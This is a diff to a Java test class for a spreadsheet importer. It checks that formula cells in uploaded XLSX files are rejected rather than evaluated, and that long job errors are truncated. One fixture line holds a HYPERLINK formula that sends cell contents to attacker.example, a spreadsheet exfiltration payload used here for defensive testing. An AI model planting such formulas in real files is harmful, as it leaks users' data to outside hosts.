@@ -245,9 +245,16 @@ class HostileInputTest {
         assertThat(x.snapshot()).isEqualTo(before);
     }
 
+    /**
+     * A formula cell is neither evaluated nor read as its text (without its "=", which OOXML does not store): each one is
+     * an invalid row saying to paste the value, and nothing is imported. The row's entry is not previewed as retired.
+     */
     @Test
-    void formulasInXlsxCellsAreImportedAsTheirTextNeverEvaluated() throws Exception {
+    void formulaCellsInAnXlsxAreInvalidRowsNeverEvaluatedNorReadAsText() throws Exception {
+        String published = TestBook.experienceId(code, 76);
+        x.db.insertGlobalExperience(published, code, "Published, then touched in a spreadsheet", "embedded", "2025-01-01T00:00:00.000Z");
         TestBook book = TestBook.fromXlsx(x.export("xlsx"));
+        int publishedRow = book.experiences().ids().indexOf(published) + 1; // 0-based, after the header
         String id = TestBook.experienceId(code, 77);
         book.experiences().add(TestBook.experienceRow(id, code, "placeholder"));
         byte[] xlsx;
@@ -268,18 +275,46 @@ class HostileInputTest {
             XSSFCell c = (XSSFCell) row.createCell(context);
             c.setCellFormula("HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")");
             c.setCellValue("click me");
+            // the published entry's author, touched in the spreadsheet (F2, Enter) so it became a formula
+            sheet.getRow(publishedRow).createCell(Columns.EXPERIENCE.indexOf("author")).setCellFormula("\"curator\"");
             wb.write(out);
             xlsx = out.toByteArray();
         }
+        Map<String, Object> before = x.snapshot();
+        String upload = x.upload("formulas.xlsx", xlsx);
 
-        JsonNode preview = x.preview(x.upload("formulas.xlsx", xlsx));
-        assertThat(preview.path("invalid_rows")).as("%s", preview).isEmpty();
-        x.apply(x.upload("formulas.xlsx", xlsx));
+        JsonNode preview = x.preview(upload);
+        int row = book.experiences().rows().size() + 1;
+        assertThat(preview.path("invalid_rows")).as("%s", preview).extracting(p -> p.path("row").asInt() + " "
+                + p.path("column").asString()).containsExactlyInAnyOrder((publishedRow + 1) + " author", row + " title",
+                row + " playbook", row + " context");
+        preview.path("invalid_rows").forEach(p -> assertThat(p.path("reason").asString()).contains("formula")
+                .contains("Paste Special → Values"));
+        assertThat(ExchangeClient.texts(preview.path("retire"))).as("its row is in the sheet").doesNotContain(published);
+        assertThat(x.runImport(upload, false).path("status").asString()).isEqualTo("failed");
+        assertThat(x.snapshot()).isEqualTo(before);
+        assertThat(x.entry(id)).isNull();
+    }
 
-        Map<String, Object> stored = x.entry(id);
-        assertThat((String) stored.get("title")).doesNotContain("Evaluated title").contains("CONCATENATE(\"Evaluated \",\"title\")");
-        assertThat((String) stored.get("playbook")).isNotEqualTo("2").contains("1+1");
-        assertThat((String) stored.get("context")).isNotEqualTo("click me").contains("HYPERLINK(");
+    /**
+     * A job's error is stored in job_history and served with every jobs refresh: however long the text it was made from
+     * (here two 3,000-character file names in a refusal), it is kept to a few lines.
+     */
+    @Test
+    void aJobsErrorIsStoredCutToAFewLines() {
+        String folder = "old-copies/".repeat(300);
+        byte[] experiences = "id,title\n".getBytes(StandardCharsets.UTF_8);
+        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
+        files.put(folder + "a/experiences.csv", experiences);
+        files.put(folder + "b/experiences.csv", experiences);
+        JsonNode job = x.runImport(x.upload("long names.zip", TestBook.zip(files)), true);
+
+        assertThat(job.path("status").asString()).as("%s", job).isEqualTo("failed");
+        String error = job.path("error").asString();
+        assertThat(error).startsWith("file: the zip holds two files for the Experiences worksheet").endsWith("…")
+                .hasSizeLessThanOrEqualTo(2_000);
+        assertThat(x.db.rows("SELECT error FROM job_history WHERE job_id = ?", job.path("job_id").asString()).getFirst())
+                .containsEntry("error", error);
     }
 
     @Test
